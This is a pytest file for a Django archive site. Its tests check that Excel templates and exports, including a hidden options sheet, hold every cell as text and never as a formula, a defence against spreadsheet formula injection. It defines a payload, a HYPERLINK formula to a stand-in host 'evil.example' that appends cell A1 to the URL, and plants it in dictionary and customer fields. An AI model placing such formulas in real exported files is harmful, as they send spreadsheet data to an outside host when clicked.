"""Every cell of every workbook the archive writes is data, never a formula: data rows, headers
and the hidden sheet of drop-down options of every module's template and export."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from archive_site.models import DictEntry, DictKind
from imports.modules import registry
from tests.factories import make_customer

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture
def evil_entries(db):
    """An entry of every dictionary kind whose name is a formula (and a bell character)."""
    return [
        DictEntry.objects.create(kind=kind, code="EVIL", name=f"{EVIL}\x07", name_en=EVIL, sort_order=0)
        for kind in DictKind
    ]


def workbook_of(response):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def formulas(workbook):
    return [
        f"{ws.title}!{cell.coordinate}"
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize("module", list(registry))
def test_no_cell_of_a_template_or_an_export_is_a_formula(login, admin_user, evil_entries, module):
    make_customer(code="C0001", name=EVIL, category=evil_entries[-1], remarks=EVIL, sales_owner=admin_user)
    client = login(admin_user)

    urls = [reverse("imports:export", args=[module])]
    if registry.get(module).importable:  # an export-only module offers no template
        urls.append(reverse("imports:template", args=[module]))
    for url in urls:
        workbook = workbook_of(client.get(url))
        assert formulas(workbook) == [], url


def test_the_hidden_options_sheet_holds_a_formula_like_name_as_text(login, admin_user, evil_entries):
    client = login(admin_user)

    for name in ("imports:template", "imports:export"):
        url = reverse(name, args=["customers"])
        options = workbook_of(client.get(url))["选项"]
        cells = [cell for row in options.iter_rows() for cell in row if cell.value == EVIL]
        assert cells, url  # the bell character left out, the rest kept as written
        assert all(cell.data_type == "s" for cell in cells)
